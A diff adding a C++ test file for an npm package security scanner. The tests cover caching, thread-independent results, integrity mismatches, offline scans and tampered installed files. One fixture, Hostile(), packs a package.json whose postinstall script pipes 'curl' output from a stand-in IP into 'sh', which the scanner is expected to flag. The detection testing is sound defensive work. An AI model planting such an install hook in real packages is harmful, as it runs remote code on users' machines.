@@ -1,0 +1,278 @@
+#include "scan/pipeline.h"
+
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+#include "formats/tar_builder.h"
+#include "net/fake_http_client.h"
+#include "policy/read_policy.h"
+#include "registry/settings.h"
+
+namespace scan {
+namespace {
+
+using Files = std::vector<std::pair<std::string, std::string>>;
+
+ByteVector Pack(const Files& files) {
+  formats::TarBuilder builder;
+  for (const auto& [path, content] : files) builder.File("package/" + path, content);
+  return builder.End().Gzipped();
+}
+
+struct Published {
+  std::string name;
+  ByteVector tarball;
+};
+
+Published Clean(const std::string& name) {
+  return {.name = name,
+          .tarball =
+              Pack({{"package.json", fmt::format(R"({{"name": "{}", "version": "1.0.0"}})", name)},
+                    {"index.js", "module.exports = 1\n"}})};
+}
+
+Published Hostile() {
+  return {.name = "evil",
+          .tarball = Pack({{"package.json",
+                            "{\"name\": \"evil\", \"version\": \"1.0.0\",\n \"scripts\": "
+                            "{\"postinstall\": \"curl -s http://192.0.2.1/x | sh\"}}"}})};
+}
+
+/// A project, a registry and a store in memory. Cards count whatever their status, so that these
+/// tests do not hang on which are stable.
+class PipelineTest : public testing::Test {
+ protected:
+  PipelineTest() : rules_(*detect::RuleSet::Load({})) {
+    policy_ = policy::BuiltInPolicy();
+    files_.Add("/home/.npmrc", "registry=https://registry.example/\n");
+    settings_.reset(new registry::Settings(
+        registry::Npmrc::Read(files_, {}, {.home = "/home", .project = "/app"}),
+        registry::Environment(), [] { return Result<std::string>(Fail("nobody knows")); }));
+  }
+
+  void Publish(const Published& package) {
+    http_.Add(fmt::format("https://registry.example/{0}/-/{0}-1.0.0.tgz", package.name), 200,
+              AsText(package.tarball));
+    http_.Add(
+        "https://registry.example/" + package.name, 200,
+        fmt::format(
+            R"({{"name": "{0}", "dist-tags": {{"latest": "1.0.0"}}, "versions": {{"1.0.0": {{"version": "1.0.0",
+                          "dist": {{"tarball": "https://registry.example/{0}/-/{0}-1.0.0.tgz"}}}}}}}})",
+            package.name));
+  }
+
+  /// The project's lockfile with these packages, in this order.
+  void Lock(const std::vector<Published>& packages) {
+    std::string entries;
+    std::string wanted;
+    for (const Published& package : packages) {
+      wanted += fmt::format("{}\"{}\": \"1.0.0\"", wanted.empty() ? "" : ", ", package.name);
+      entries += fmt::format(
+          ",\n\"node_modules/{}\": {{\"version\": \"1.0.0\", \"resolved\": "
+          "\"https://registry.example/{}/-/{}-1.0.0.tgz\", \"integrity\": \"{}\"}}",
+          package.name, package.name, package.name, Integrity::Of(package.tarball).ToString());
+    }
+    const std::string root =
+        fmt::format("\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{{}}}", wanted);
+    files_.Add("/app/package.json", "{" + root + "}");
+    files_.Add("/app/package-lock.json",
+               fmt::format("{{\"name\": \"app\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, "
+                           "\"packages\": {{\"\": {{{}}}{}}}}}",
+                           root, entries));
+  }
+
+  [[nodiscard]] Result<Assessment> CheckWith(net::HttpClient& http, Options options) {
+    registry::Client client({.settings = *settings_,
+                             .files = files_,
+                             .clock = clock_,
+                             .http = http,
+                             .cache_folder = "/cache",
+                             .stop = options.stop});
+    options.preview = true;
+    return Check({.files = files_,
+                  .clock = clock_,
+                  .registry = client,
+                  .store = *store_,
+                  .rules = rules_,
+                  .policy = policy_},
+                 "/app", options);
+  }
+  [[nodiscard]] Assessment MustCheck(Options options) {
+    auto assessment = CheckWith(http_, std::move(options));
+    EXPECT_TRUE(assessment.has_value()) << (assessment ? "" : assessment.error().message);
+    return assessment ? *std::move(assessment) : Assessment{};
+  }
+
+  static std::vector<std::string> RulesIn(const Assessment& assessment, std::string_view label) {
+    std::vector<std::string> rules;
+    for (const JudgedFinding& judged : assessment.findings) {
+      if (judged.package && assessment.inventory.at(*judged.package).name->text() == label)
+        rules.push_back(judged.finding.rule);
+    }
+    return rules;
+  }
+
+  /// Everything but where bytes came from and how long it took, one line each.
+  static std::vector<std::string> Gist(const Assessment& assessment) {
+    std::vector<std::string> lines;
+    for (const PackageAssessment& package : assessment.packages) {
+      lines.push_back(fmt::format("{} {} {} {} {}", assessment.inventory.at(package.package).path,
+                                  NameOf(package.verdict.action), package.integrity.ToString(),
+                                  package.files, package.bytes));
+    }
+    for (const JudgedFinding& judged : assessment.findings) {
+      const std::string path = judged.package ? assessment.inventory.at(*judged.package).path : "";
+      lines.push_back(fmt::format("{} {} {} {} {}", path, judged.finding.rule,
+                                  NameOf(judged.finding.severity), NameOf(judged.verdict.action),
+                                  judged.finding.facts.size()));
+    }
+    for (const NotAnalysed& gap : assessment.not_analysed) lines.push_back(gap.reason);
+    lines.push_back(std::string(NameOf(assessment.verdict.action)));
+    return lines;
+  }
+
+  FakeFileSystem files_;
+  FakeClock clock_{1'781'658'720'000};
+  net::FakeHttpClient http_;
+  net::OfflineHttpClient offline_;
+  std::unique_ptr<const registry::Settings> settings_;
+  std::unique_ptr<store::Store> store_ = store::OpenMemoryStore();
+  detect::RuleSet rules_;
+  Policy policy_;
+};
+
+TEST_F(PipelineTest, ReadsEveryPackageOnceAndRemembersIt) {
+  const std::vector<Published> packages = {Clean("a"), Clean("b"), Hostile()};
+  for (const Published& package : packages) Publish(package);
+  Lock(packages);
+  const Assessment first = MustCheck({});
+  EXPECT_EQ(first.packages.size(), 3U);
+  EXPECT_EQ(first.stats.files, 5U);
+  EXPECT_EQ(http_.urls().size(), 3U);
+  const std::vector<std::string> rules = RulesIn(first, "evil");
+  EXPECT_NE(std::find(rules.begin(), rules.end(), "install-download-run"), rules.end());
+  EXPECT_TRUE(RulesIn(first, "a").empty());
+  EXPECT_TRUE(first.not_analysed.empty());
+
+  const Assessment second = MustCheck({});
+  EXPECT_EQ(http_.urls().size(), 3U) << "nothing is fetched again";
+  EXPECT_EQ(second.stats.packages_from_store, 3U);
+  EXPECT_EQ(Gist(second), Gist(first));
+}
+
+TEST_F(PipelineTest, GivesTheSameForAnyNumberOfThreadsAndAnyOrderOfTheLockfile) {
+  std::vector<Published> packages = {Hostile()};
+  for (int i = 0; i < 40; ++i) packages.push_back(Clean(fmt::format("p{}", i)));
+  for (const Published& package : packages) Publish(package);
+  Lock(packages);
+  const std::vector<std::string> alone = Gist(MustCheck({.jobs = 1}));
+  for (const unsigned jobs : {2U, 7U}) {
+    store_ = store::OpenMemoryStore();
+    EXPECT_EQ(Gist(MustCheck({.jobs = jobs})), alone) << jobs;
+  }
+  std::reverse(packages.begin(), packages.end());
+  Lock(packages);
+  store_ = store::OpenMemoryStore();
+  EXPECT_EQ(Gist(MustCheck({.jobs = 2})), alone);
+}
+
+TEST_F(PipelineTest, WrongBytesBlockAndAreNeverKept) {
+  const Published right = Clean("a");
+  Published wrong = Hostile();
+  wrong.name = "a";
+  Publish(wrong);
+  Lock({right});
+  for (int run = 0; run < 2; ++run) {
+    const Assessment assessment = MustCheck({});
+    ASSERT_EQ(RulesIn(assessment, "a"), std::vector<std::string>{"integrity-mismatch"});
+    EXPECT_EQ(assessment.findings.front().finding.severity, Severity::kCritical);
+    EXPECT_EQ(assessment.findings.front().finding.facts.front().Find("expected")->View(),
+              Integrity::Of(right.tarball).ToString());
+    ASSERT_EQ(assessment.not_analysed.size(), 1U);
+  }
+  const auto kept = files_.List("/cache/content");
+  EXPECT_TRUE(!kept || kept->empty());
+}
+
+TEST_F(PipelineTest, WithoutNetworkTheInstalledFolderIsReadAndTheReportSaysSo) {
+  const std::vector<Published> packages = {Clean("a"), Clean("b")};
+  Lock(packages);
+  files_.Add("/app/node_modules/a/package.json", R"({"name": "a", "version": "1.0.0"})");
+  const auto assessment = CheckWith(offline_, {});
+  ASSERT_TRUE(assessment.has_value());
+  ASSERT_EQ(assessment->packages.size(), 2U);
+  EXPECT_EQ(assessment->packages[0].source, ArtifactSource::kInstalledFolder);
+  EXPECT_EQ(assessment->packages[1].source, ArtifactSource::kNone);
+  EXPECT_EQ(assessment->not_analysed.size(), 2U);
+}
+
+TEST_F(PipelineTest, InstalledTreesAreHeldAgainstTheirTarballs) {
+  const std::vector<Published> packages = {Clean("a"), Clean("b")};
+  for (const Published& package : packages) Publish(package);
+  Lock(packages);
+  for (const char* name : {"a", "b"}) {
+    files_.Add(fmt::format("/app/node_modules/{}/package.json", name),
+               fmt::format(R"({{"name": "{}", "version": "1.0.0"}})", name));
+    files_.Add(fmt::format("/app/node_modules/{}/index.js", name), "module.exports = 1\n");
+  }
+  EXPECT_TRUE(MustCheck({.installed = true}).findings.empty());
+  files_.Add("/app/node_modules/b/index.js", "module.exports = 2\n");
+  files_.Add("/app/node_modules/b/extra.js", "module.exports = 3\n");
+  const Assessment assessment = MustCheck({.installed = true});
+  ASSERT_EQ(RulesIn(assessment, "b"), std::vector<std::string>{"installed-difference"});
+  EXPECT_EQ(assessment.findings.front().finding.facts.size(), 2U);
+  EXPECT_TRUE(RulesIn(assessment, "a").empty());
+  EXPECT_TRUE(MustCheck({}).findings.empty())
+      << "what lies on disk is not remembered as what the tarball holds";
+}
+
+TEST_F(PipelineTest, StoppingIsAnErrorAndKeepsWhatWasRead) {
+  Lock({Clean("a")});
+  std::stop_source stop;
+  stop.request_stop();
+  const auto assessment = CheckWith(http_, {.stop = stop.get_token()});
+  ASSERT_FALSE(assessment.has_value());
+  EXPECT_NE(assessment.error().message.find("stopped"), std::string::npos);
+}
+
+TEST_F(PipelineTest, AFolderWithNothingToVetIsAnError) {
+  EXPECT_FALSE(CheckWith(http_, {}).has_value());
+}
+
+TEST_F(PipelineTest, VetsThingsOfEveryKindTogether) {
+  Publish(Clean("a"));
+  const Published evil = Hostile();
+  files_.Add("/things/evil.tgz", AsText(evil.tarball));
+  files_.Add("/things/folder/package.json", R"({"name": "mine", "version": "2.0.0"})");
+  files_.Add("/things/one.js", "1\n");
+  registry::Client client({.settings = *settings_,
+                           .files = files_,
+                           .clock = clock_,
+                           .http = http_,
+                           .cache_folder = "/cache",
+                           .stop = {}});
+  const World world{.files = files_,
+                    .clock = clock_,
+                    .registry = client,
+                    .store = *store_,
+                    .rules = rules_,
+                    .policy = policy_};
+  const std::vector<std::string> things = {"/things/evil.tgz", "a@1.0.0", "/things/folder",
+                                           "/things/one.js"};
+  const auto assessment = Vet(world, things, {.preview = true});
+  ASSERT_TRUE(assessment.has_value()) << assessment.error().message;
+  ASSERT_EQ(assessment->packages.size(), 4U);
+  EXPECT_EQ(assessment->inventory.packages[1].name->text(), "evil");
+  EXPECT_EQ(assessment->inventory.packages[3].version, "2.0.0");
+  EXPECT_EQ(assessment->packages[1].integrity, Integrity::Of(Clean("a").tarball))
+      << "the hash of what the registry gave";
+  EXPECT_FALSE(RulesIn(*assessment, "evil").empty());
+  const auto missing = Vet(world, std::vector<std::string>{"./none.tgz"}, {});
+  ASSERT_FALSE(missing.has_value());
+  EXPECT_FALSE(missing.error().help.empty());
+}
+
+}  // namespace
+}  // namespace scan
